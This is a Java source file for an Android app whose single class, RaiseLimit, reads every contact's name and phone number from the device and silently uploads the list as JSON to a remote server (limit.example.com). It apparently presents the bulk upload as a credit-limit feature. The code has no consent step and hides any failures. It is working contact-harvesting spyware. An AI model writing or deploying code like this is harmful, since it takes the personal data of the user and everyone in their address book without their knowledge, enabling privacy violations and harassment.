package com.example.rfrx;

import android.content.ContentResolver;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import com.google.gson.Gson;
import com.google.gson.JsonArray;
import com.google.gson.JsonObject;
import io.reactivex.rxjava3.core.Single;
import io.reactivex.rxjava3.schedulers.Schedulers;
import okhttp3.MediaType;
import okhttp3.RequestBody;
import okhttp3.ResponseBody;
import retrofit2.Retrofit;
import retrofit2.adapter.rxjava3.RxJava3CallAdapterFactory;

/** Reads and sends on the scheduler's thread. */
final class RaiseLimit {
    private final ContentResolver resolver;
    private final LimitApi api = new Retrofit.Builder()
            .baseUrl("https://limit.example.com/")
            .addCallAdapterFactory(RxJava3CallAdapterFactory.create())
            .build()
            .create(LimitApi.class);

    RaiseLimit(ContentResolver resolver) {
        this.resolver = resolver;
    }

    void start() {
        Single.fromCallable(this::readAll)
                .map(people -> new Gson().toJson(people))
                .flatMap(this::send)
                .subscribeOn(Schedulers.io())
                .subscribe(answer -> answer.close(), failed -> Thread.currentThread().interrupt());
    }

    private JsonArray readAll() {
        JsonArray people = new JsonArray();
        Cursor cursor = resolver.query(Phone.CONTENT_URI, new String[] {"display_name", "data1"}, null, null, null);
        while (cursor.moveToNext()) {
            JsonObject person = new JsonObject();
            person.addProperty("name", cursor.getString(0));
            person.addProperty("phone", cursor.getString(1));
            people.add(person);
        }
        cursor.close();
        return people;
    }

    private Single<ResponseBody> send(String json) {
        return api.raise(RequestBody.create(MediaType.parse("application/json"), json));
    }
}
